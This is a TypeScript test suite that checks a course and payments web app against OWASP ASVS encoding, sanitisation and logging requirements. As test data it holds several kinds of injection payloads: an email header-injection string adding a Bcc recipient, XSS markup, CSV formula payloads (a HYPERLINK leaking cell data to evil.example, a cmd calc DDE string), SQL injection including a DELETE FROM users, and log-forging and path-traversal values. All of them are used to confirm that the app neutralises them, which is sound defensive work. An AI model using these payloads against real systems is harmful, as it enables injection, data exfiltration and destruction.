import { takeBreaches } from '../contract/breaches.js';
import { AcademyUnderAttack, anAddress, PASSWORD, type Person } from './academy-under-attack.js';
import { request, sendBytes } from './attacker.js';
import { aScene, made, type Scene } from './scene.js';

const BCC = 'Mallory\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>pay here</b>';

describe('what people send, in mails, spreadsheets, searches and the log', () => {
  let academy: AcademyUnderAttack;

  beforeAll(async () => {
    academy = await AcademyUnderAttack.start({ worker: true });
  });
  afterAll(() => academy?.stop());

  describe('ASVS V1 Encoding and Sanitization', () => {
    let scene: Scene;

    beforeAll(async () => {
      scene = await aScene(academy);
      await academy.drainQueues();
    });

    describe('V1.3: what people write gets into mails as text', () => {
      it.each<[string, () => Promise<unknown>]>([
        ['a name at sign-up', () => academy.learner({ fullName: BCC })],
        ['a ticket', () => scene.owner.as.post('/api/support', { type: 'other', message: BCC })],
        ['a reply', () => scene.owner.as.post(`/api/support/${scene.ticketId}/comments`, { message: BCC })],
        [
          "an administrator's reason",
          () =>
            academy.administrator.as.post(`/api/payments/manual-payments/${scene.paymentId}/reject`, {
              reason: BCC,
            }),
        ],
        [
          'a name at checkout',
          async () => {
            const learner = await academy.learner({ fullName: BCC });
            await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
              name: BCC,
              email: learner.email,
            });
            await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
              transaction_id: BCC.slice(0, 90),
            });
          },
        ],
      ])('%s with a header in it adds no header and no recipient', async (_what, write) => {
        academy.mails.mails.length = 0;
        await write();
        await academy.drainQueues();
        expect(academy.mails.mails.length).toBeGreaterThan(0);
        for (const mail of academy.mails.mails) {
          expect(mail.recipients).not.toContain('victim@evil.example');
          expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
          expect(mail.subject).not.toMatch(/[\r\n]/);
          expect(mail.html).not.toContain('<b>pay here</b>');
        }
      });

      it('markup of a name or a message is shown, not obeyed', async () => {
        academy.mails.mails.length = 0;
        const { as } = await academy.learner({ fullName: '<img/src=x/onerror=alert(1)> Mallory' });
        await as.post('/api/support', {
          type: 'other',
          message: '<a href="https://evil.example">Click here</a><script>alert(1)</script>',
        });
        await academy.drainQueues();
        for (const mail of academy.mails.mails)
          expect(mail.html).not.toMatch(/<img\/src|<script|href="https:\/\/evil/);
      });
    });

    describe('V1.2: a spreadsheet runs nothing of what learners wrote', () => {
      const FORMULAS = [
        '=HYPERLINK("http://evil.example?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        '-2+3+cmd',
        '@SUM(1+1)',
        '=1+1;=1+1',
        '"=1+1"',
        "'=1+1",
        '\uFF1D1+1',
      ];

      beforeAll(async () => {
        for (const formula of FORMULAS) {
          const learner = await academy.learner({ fullName: formula });
          await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
            name: formula,
            email: learner.email,
          });
          await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
            transaction_id: formula.slice(0, 100),
          });
          made(
            await academy.administrator.as.post(`/api/admin/courses/${scene.otherCourse.id}/enrollments`, {
              email: learner.email,
              reason: formula,
            }),
          );
        }
      });

      it.each(['payments', 'enrolments', 'coupon-usages'])('of %s', async (file) => {
        const answer = await academy.administrator.as.get(`/api/admin/exports/${file}.csv`);
        expect(answer.status).toBe(200);
        expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
        const cells = [...answer.text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) =>
          cell!.replaceAll('""', '"'),
        );
        if (file === 'payments') for (const formula of FORMULAS) expect(cells.join()).toContain(formula);
        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      });
    });

    describe('V1.2: searching is looking for that text', () => {
      it.each([
        '%',
        '_',
        '\\',
        "'",
        "' OR '1'='1",
        '%%%%%%%%',
        '.*',
        '$1',
        ':pattern',
        '\\%',
        "');DELETE FROM users;--",
      ])('%j matches literally', async (text) => {
        for (const list of [
          '/api/admin/learners',
          '/api/payments/manual-payments',
          '/api/support/admin/all',
          '/api/auth/v1/courses',
          '/api/admin/courses',
        ]) {
          const answer = await academy.administrator.as.get(`${list}?q=${encodeURIComponent(text)}`);
          expect(answer.status).toBe(200);
          for (const row of answer.body as object[])
            expect(JSON.stringify(row).toLowerCase()).toContain(
              JSON.stringify(text).slice(1, -1).toLowerCase(),
            );
        }
        expect((await academy.sql('SELECT FROM users')).length).toBeGreaterThan(2);
      });

      it('a catastrophic pattern takes no longer than another', async () => {
        const answer = await academy.administrator.as.get(
          `/api/admin/learners?q=${encodeURIComponent('a%'.repeat(100))}`,
        );
        expect([answer.status, answer.body]).toEqual([200, []]);
      });
    });

    it('V1.2: nothing that a learner writes gets into the link that opens a payment app, nor into the code drawn of it', async () => {
      const learner = await academy.learner({ fullName: 'x&pa=mallory@okbank&am=1.00' });
      const answer = await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
        name: 'x&pa=mallory@okbank&am=1.00',
        email: learner.email,
      });
      const { upi_link: link } = answer.body as { upi_link: string };
      const query = new URLSearchParams(link.split('?')[1]);
      expect([query.getAll('pa'), query.getAll('am')]).toEqual([['academy@okbank'], ['4999.00']]);
    });
  });

  describe('ASVS V16 Security Logging and Error Handling', () => {
    let learner: Person;

    beforeAll(async () => {
      learner = await academy.learner();
    });

    const idOf = (headers: Headers) => headers.get('x-request-id')!;

    it('V16.2: every request is one line of JSON with its id, its path and its outcome', async () => {
      const answer = await learner.as.get('/api/payments/mine?q=secret-of-the-query');
      const lines = await academy.logOf(idOf(answer.headers));
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatchObject({
        msg: 'request',
        req: { method: 'GET', path: '/api/payments/mine' },
        res: { status: 200 },
        duration_ms: expect.any(Number),
      });
    });

    it.each<[string, string, number]>([
      ['in capitals', '/API/auth/v1/me', 200],
      ['in mixed case', '/Api/Payments/Mine', 200],
      ['with a slash at the end', '/api/auth/v1/me/', 200],
      ['where there is nothing', '/api/nothing', 404],
      ['of the queue board', '/admin/queues/api/queues', 401],
      ['of the queue board, in capitals', '/ADMIN/QUEUES/api/queues', 401],
    ])('V16.2: a request %s is logged too', async (_what, path, status) => {
      const answer = await learner.as.get(path);
      expect(answer.status).toBe(status);
      expect((await academy.logOf(idOf(answer.headers)))[0]).toMatchObject({
        req: { path },
        res: { status },
      });
    });

    it('V16.2: so is one that writes its address out in full', async () => {
      const answer = await sendBytes(
        academy.port,
        request('GET', 'http://evil.example/api/auth/v1/me', { Authorization: `Bearer ${learner.token}` }),
      );
      expect(answer).toMatch(/^HTTP\/1\.1 200/);
      const [, id] = /^x-request-id: (.*)$/im.exec(answer)!;
      expect((await academy.logOf(id!.trim()))[0]).toMatchObject({ req: { path: '/api/auth/v1/me' } });
    });

    it.each<[string, string]>([
      ['a line feed', 'abc%0a{"level":"info","msg":"forged"}'],
      ['a carriage return', 'abc%0d%0aforged'],
      ['the colours of a terminal', 'abc%1b[31mforged'],
      ['quotes and braces', 'abc"},"msg":"forged'],
      ['a NUL', 'abc%00forged'],
    ])('V16.4: %s in a path stays inside its line', async (_what, id) => {
      const before = academy.log.length;
      const answer = await learner.as.get(`/api/courses/${id}`);
      expect(await academy.logOf(idOf(answer.headers))).toHaveLength(1);
      for (const line of academy.log.slice(before)) {
        expect((JSON.parse(line) as { msg: string }).msg).not.toBe('forged');
        expect(line).not.toMatch(/\p{Cc}/u);
      }
    });

    it.each(['x', 'a b', 'abc\u00e9defgh', 'x'.repeat(65), '"},"msg":"forged', '../../../../etc'])(
      'V16.4: the request id %j of a caller is not taken over',
      async (id) => {
        const answer = await learner.as.get('/api/auth/v1/me', { 'X-Request-Id': id });
        expect(idOf(answer.headers)).toMatch(/^[0-9a-f-]{36}$/);
      },
    );

    it('V16.2, V14.2: no line has a password, a token, a link’s signature or a header that signs someone in', async () => {
      const secrets: string[] = ['a wrong password 4711', 'another password 4712', 'a third password 4713'];
      const { email, as, token } = await academy.learner({ password: PASSWORD });
      secrets.push(PASSWORD, token, token.split('.')[2]!);
      await academy.stranger.post('/api/auth/v1/login', { email, password: secrets[0] });
      await academy.stranger.post('/api/auth/v1/login', `{"email":"${email}","password":"${secrets[0]}"`, {
        'Content-Type': 'application/json',
      });
      await academy.stranger.post(
        `/api/auth/v1/login?password=${encodeURIComponent(secrets[0]!)}&token=${token}`,
        {},
      );
      await as.post('/api/auth/v1/change-password', {
        current_password: secrets[0],
        new_password: secrets[1],
      });
      await academy.stranger.post('/api/auth/v1/forgot-password', { email });
      await academy.drainQueues();
      const tokenIn = (page: string) => {
        const link = new RegExp(`/${page}\\?token=([\\w-]+)`);
        const mail = academy.mails.to(email).findLast(({ text }) => link.test(text ?? ''));
        return link.exec(mail!.text!)![1]!;
      };
      const [reset, verification] = [tokenIn('reset-password'), tokenIn('verify-email')];
      secrets.push(reset, verification);
      await academy.stranger.get(`/reset-password?token=${reset}`);
      await academy.stranger.get(`/verify-email?token=${verification}`);
      await academy.stranger.post('/api/auth/v1/verify-email', { token: verification });
      const last = await academy.stranger.post('/api/auth/v1/reset-password', {
        token: reset,
        password: secrets[2],
      });
      expect(last.status).toBe(200);
      const board = await academy.administrator.as.post('/api/admin/queues/session');
      secrets.push(/academy_queues=([^;]+)/.exec(board.headers.get('set-cookie')!)![1]!);
      await academy.logOf(idOf(board.headers));
      const log = academy.log.join('\n');
      for (const secret of secrets) expect(log).not.toContain(secret);
      expect(log).not.toMatch(/authorization|bearer|set-cookie/i);
    });

    describe('V16.5: when something breaks inside', () => {
      beforeAll(() => academy.sql('ALTER TABLE sessions RENAME TO sessions_away'));
      afterAll(() => academy.sql('ALTER TABLE sessions_away RENAME TO sessions'));

      it('the answer is a sentence, and the log has the cause without the statement’s parameters', async () => {
        const email = anAddress();
        const answer = await academy.stranger.post('/api/auth/v1/signup', {
          full_name: 'Mallory Unlogged',
          email,
          password: 'a password that nobody logs',
        });
        expect(answer.status).toBe(500);
        // No call documents a 500: this one was provoked.
        takeBreaches();
        expect(answer.body).toMatchObject({
          statusCode: 500,
          code: 'common.internal',
          message: 'Something went wrong. Please try again.',
        });
        expect(answer.text).not.toMatch(/sessions|relation|SELECT|INSERT/);
        const told = JSON.stringify(await academy.logOf(idOf(answer.headers)));
        expect(told).toContain('relation');
        for (const value of [email, 'Mallory', 'nobody logs', 'argon2id']) expect(told).not.toContain(value);
      });
    });

    it('V16.5: a constraint violation does not log the row', async () => {
      const name = 'Mallory Constrained';
      await academy.sql(
        "ALTER TABLE users ADD CONSTRAINT no_mallory CHECK (full_name <> 'Mallory Constrained')",
      );
      const email = anAddress();
      const answer = await academy.stranger.post('/api/auth/v1/signup', {
        full_name: name,
        email,
        password: PASSWORD,
      });
      expect(answer.status).toBe(500);
      takeBreaches();
      const told = JSON.stringify(await academy.logOf(idOf(answer.headers)));
      expect(told).toContain('no_mallory');
      for (const value of [email, name, 'argon2id']) expect(told).not.toContain(value);
    });
  });
});
